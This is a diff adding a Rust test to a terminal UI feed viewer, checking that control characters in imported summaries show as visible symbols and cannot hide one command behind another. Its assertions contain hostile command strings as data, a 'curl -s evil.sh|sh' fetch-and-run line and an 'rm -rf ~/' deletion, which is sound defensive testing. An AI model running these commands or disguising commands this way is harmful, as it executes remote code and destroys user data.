@@ -65,3 +65,31 @@ fn every_row_and_panel_draws_clean() {
         assert_screen_clean(&term, &format!("after {a:?}"));
     }
 }
+
+#[test]
+fn feed_rows_never_obey_cursor_motion() {
+    // Issue 14.1: the feed listed `curl … | sh ESC[31m \r ESC[K ls -la` as `ls -la`.
+    let items = import::load_bytes(include_bytes!("fixtures/hostile_summary_spoof.ndjson")).items;
+    let mut app = App::headless(items, "spoof");
+    let (w, h) = (160, 20);
+    let mut term = Terminal::new(TestBackend::new(w, h)).unwrap_or_else(|e| panic!("{e}"));
+    draw(&mut app, &mut term, w, h);
+    assert_screen_clean(&term, "spoof");
+    let buf = term.backend().buffer();
+    let rows: Vec<String> = (0..h)
+        .map(|y| (0..w).map(|x| buf[(x, y)].symbol()).collect())
+        .collect();
+    let screen = rows.join("\n");
+    assert!(
+        screen.contains("curl -s evil.sh|sh \u{240d}ls -la"),
+        "{screen}"
+    );
+    assert!(
+        screen.contains(&format!("rm -rf ~/{}echo hi", "\u{2408}".repeat(9))),
+        "{screen}"
+    );
+    assert!(
+        screen.contains("tidy up \u{240d}please list files"),
+        "{screen}"
+    );
+}
